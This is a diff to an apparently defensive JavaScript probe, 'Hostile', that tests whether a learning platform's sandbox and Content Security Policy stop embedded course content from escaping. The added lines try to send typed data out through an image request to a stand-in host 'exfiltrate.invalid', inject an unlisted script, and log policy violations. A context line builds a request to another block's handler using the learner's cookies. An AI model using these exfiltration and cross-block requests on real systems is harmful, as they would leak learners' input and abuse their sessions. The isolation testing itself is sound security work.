@@ -27,6 +27,23 @@ async function Hostile(runtime, element, args) {
   attempt("navigate_page", function () { top.location.href = "about:blank#hostile"; return "attempted"; }, function () { return false; });
   attempt("popup", function () { return window.open("about:blank"); }, function (w) { return w !== null; });
 
+  // Ways out other than the page: an image to another site (what the learner types could
+  // go out in its URL), a script the host did not name (the page's own, unsandboxed here).
+  const violations = [];
+  document.addEventListener("securitypolicyviolation", function (e) {
+    violations.push(e.effectiveDirective + " " + e.blockedURI);
+  });
+  new Image().src = "https://exfiltrate.invalid/leak?k=typed";
+  const foreign = document.createElement("script");
+  foreign.src = "/assets/xbhost.js";
+  document.head.appendChild(foreign);
+  await new Promise(function (resolve) { setTimeout(resolve, 500); });
+  const violated = function (directive) {
+    return violations.some(function (v) { return v.startsWith(directive); });
+  };
+  found.exfiltrate_image = violated("img-src") ? "blocked: img-src" : "ALLOWED: no policy stopped it " + violations.join(", ");
+  found.foreign_script = violated("script-src") ? "blocked: script-src" : "ALLOWED: no policy stopped it " + violations.join(", ");
+
   // Another block's handler by URL, with the learner's cookies.
   const victimUrl = "/courses/" + encodeURIComponent(args.course) + "/blocks/" + encodeURIComponent(args.victim) + "/handler/vote";
   try {
